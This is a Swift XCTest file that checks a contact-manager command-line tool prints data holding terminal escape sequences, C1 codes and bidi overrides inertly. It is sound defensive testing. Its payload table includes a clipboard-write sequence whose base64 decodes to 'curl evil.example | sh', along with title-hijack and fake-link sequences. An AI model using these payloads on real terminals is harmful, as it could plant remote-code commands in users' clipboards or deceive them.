import Foundation
import XCTest

/// Promise 5 of docs/reliability.md: text from the data (names, companies, notes, circles,
/// events, journal, goals) holding escape sequences — clear screen, window title, OSC 52
/// clipboard, OSC 8 links — 8-bit C1 codes and bidi overrides reaches no terminal as a
/// control: not in any command's plain output, not in its JSON, not in its errors.
final class ReliabilityTerminalInjectionTests: XCTestCase {
    var folder: ScratchFolder!
    var store: String { folder.path + "/store" }

    static let payloads: [String: String] = [
        "clear screen": "\u{1B}[2J\u{1B}[H",
        "OSC 0 title": "\u{1B}]0;pwned\u{07}",
        "OSC 52 clipboard": "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}",
        "OSC 8 link": "\u{1B}]8;;https://evil.example\u{1B}\\click\u{1B}]8;;\u{1B}\\",
        "8-bit CSI": "\u{9B}31m\u{9B}2J",
        "8-bit OSC": "\u{9D}0;title\u{9C}",
        "bidi override": "\u{202E}gnp.exe\u{202C}\u{2066}x\u{2069}",
        "C0 bell and backspace": "\u{07}\u{08}\u{08}\u{0D}",
        "DEL": "\u{7F}",
    ]

    /// Every payload in one string, between words that must still show.
    static var hostile: String { payloads.keys.sorted().map { "[\($0)]" + payloads[$0]! }.joined() + " End" }

    /// True for anything a terminal would act on: C0 (but newline), ESC, DEL, C1, bidi controls.
    /// Exports (CSV, vCard, iCalendar) end their lines with CRLF, as their formats say.
    static func firstControl(_ text: String, crlfLineEnds: Bool = false) -> Unicode.Scalar? {
        let text = crlfLineEnds ? text.replacingOccurrences(of: "\r\n", with: "\n") : text
        return text.unicodeScalars.first { s in
            let v = s.value
            return (v < 0x20 && v != 0x0A) || v == 0x7F || (0x80...0x9F).contains(v)
                || (0x202A...0x202E).contains(v) || (0x2066...0x2069).contains(v)
                || v == 0x200E || v == 0x200F || v == 0x061C
        }
    }

    override func setUp() {
        folder = ScratchFolder()
        XCTAssertEqual(CarnetProcess.run(["init"], dir: store).status, 0)
        let h = Self.hostile
        // Written by hand, as an import or an editor could.
        folder.write("store/contacts", """
            # carnet contacts 1

            id: eve
            name: Eve \(h)
            company: Evil \(h)
            role: Role \(h)
            city: City \(h)
            circles: Circle \(h), Club
            tags: tag \(h)
            email: eve@example.com\(h)
            url: https://example.com/\(h)
            sector: Sector \(h)
            cadence: 30d
            note: Note \(h)
              second line \(h)

            id: bob
            name: Bob Leroy
            company: Acme
            circles: Club
            introduced-by: \(h)

            """)
        folder.write("store/circles", "# carnet circles 1\n\nname: Club\ndescription: Desc \(h)\ncadence: 7d\n")
        folder.write("store/events", "# carnet events 1\n\nid: party\nname: Party \(h)\ndate: 2026-10-01\nplace: Place \(h)\nmet: eve\nnote: \(h)\n")
        folder.write("store/goals", "# carnet goals 1\n\ngoal: coffee\ntarget: 2\nnote: \(h)\n\nobjective: business\nsectors: Sector \(h)\ncompanies: Evil \(h)\nnote: \(h)\n")
        let quoted = h.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
        folder.write("store/journal", """
            # carnet journal 1
            2026-09-01 coffee @eve gave:"gift \(quoted)" note:"note \(quoted)" event:party follow-up:2026-09-10
            2026-09-02 call @bob @eve asked:"ask \(quoted)"

            """)
    }

    func assertInert(_ args: [String], mustShow: String? = "End", crlfLineEnds: Bool = false, file: StaticString = #filePath, line: UInt = #line) {
        let r = CarnetProcess.run(args, dir: store, today: "2027-06-01")
        for (stream, text) in [("stdout", r.stdout), ("stderr", r.stderr)] {
            if let c = Self.firstControl(text, crlfLineEnds: crlfLineEnds) {
                XCTFail("carnet \(args.joined(separator: " ")) \(stream) holds U+\(String(c.value, radix: 16, uppercase: true)): \(text.debugDescription)",
                        file: file, line: line)
            }
        }
        if let mustShow {
            XCTAssertTrue(r.stdout.contains(mustShow), "carnet \(args.joined(separator: " ")) shows the text around the controls: \(r.stdout) \(r.stderr)",
                          file: file, line: line)
        }
        Self.outputs += 1
    }

    nonisolated(unsafe) static var outputs = 0

    override class func tearDown() {
        Torture.report("terminal injection: \(outputs) command outputs checked, each with \(payloads.count) kinds of control")
    }

    func testEveryReadCommandPrintsHostileDataInert() {
        XCTAssertEqual(CarnetProcess.run(["check"], dir: store).stdout, "ok: 2 people, 2 circles, 2 interactions, 1 events\n")
        for json in [false, true] {
            let j = json ? ["--json"] : []
            assertInert(["list"] + j)
            assertInert(["list", "--circle", "Club"] + j)
            assertInert(["show", "eve"] + j)
            assertInert(["show", "bob"] + j, mustShow: "Bob")
            assertInert(["reconnect", "--limit", "10"] + j)
            assertInert(["circles"] + j)
            assertInert(["goals"] + j, mustShow: nil)
            assertInert(["goals", "--month", "2026-09"] + j, mustShow: nil)
            assertInert(["objective"] + j.filter { _ in false }, mustShow: "End")
            assertInert(["check"] + j, mustShow: nil)
        }
        assertInert(["circles", "Club"], mustShow: nil)
        for format in ["json", "csv", "vcard", "ics"] {
            assertInert(["export", format], mustShow: nil, crlfLineEnds: format != "json")
        }
    }

    /// The JSON keeps the exact value (a script gets the data), written with `\u` escapes.
    func testJSONKeepsTheExactValueWithEscapes() throws {
        let r = CarnetProcess.run(["show", "eve", "--json"], dir: store)
        XCTAssertEqual(r.status, 0, r.stderr)
        let json = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as! [String: Any]
        let contact = json["contact"] as! [String: Any]
        XCTAssertEqual(contact["name"] as? String, "Eve " + Self.hostile)
    }

    /// Errors quote what the user typed and names from the store: inert too.
    func testErrorsAndCheckMessagesQuotingTheDataAreInert() {
        assertInert(["show", "nobody\u{1B}]0;x\u{07}"], mustShow: nil)
        assertInert(["log", "e"], mustShow: nil)  // ambiguous or unknown: lists candidates
        folder.write("store/contacts", folder.read("store/contacts") + "\nid: eve\nname: Again \(Self.hostile)\nbirthday: \(Self.hostile)\n")
        assertInert(["check"], mustShow: nil)
        assertInert(["check", "--json"], mustShow: nil)
        assertInert(["add", "Someone"], mustShow: nil)
    }

    /// A file's name is data too (a vdir's files are named by a server): errors that quote
    /// it, an import's or the store's, are inert.
    func testErrorsQuotingAFilesNameAreInert() {
        let name = folder.path + "/\u{1B}]52;c;Zm9v\u{07}x\u{1B}[31m"
        folder.write(String(name.dropFirst(folder.path.count + 1)) + ".csv", "not a csv at all\n")
        assertInert(["import", "linkedin", name + ".csv"], mustShow: nil)
        assertInert(["import", "vcard", name + ".vcf"], mustShow: nil)
        assertInert(["--dir", name, "list"], mustShow: nil)
    }

    /// Text given on the command line is stored as given and shown inert.
    func testHostileTextTypedOnTheCommandLineIsStoredAndShownInert() {
        // A carriage return is a line break to `add`, which wants a name on one line.
        let hostile = Self.hostile.replacingOccurrences(of: "\r", with: "")
        XCTAssertEqual(CarnetProcess.run(["add", "Mallory \(Self.hostile)"], dir: store).stderr, "carnet: a name is one non-empty line\n")
        let add = CarnetProcess.run(["add", "Mallory \(hostile)", "--id", "mallory", "--company", "Co \(hostile)"], dir: store)
        XCTAssertEqual(add.status, 0, add.stderr)
        XCTAssertNil(Self.firstControl(add.stdout), add.stdout.debugDescription)
        let log = CarnetProcess.run(["log", "mallory", "--note", "n \(Self.hostile)", "--gave", "g \(Self.hostile)"], dir: store)
        XCTAssertEqual(log.status, 0, log.stderr)
        XCTAssertNil(Self.firstControl(log.stdout), log.stdout.debugDescription)
        assertInert(["show", "mallory"])
        assertInert(["list"])
        XCTAssertEqual(CarnetProcess.run(["check"], dir: store).status, 0, "what Carnet writes, it reads back")
    }
}
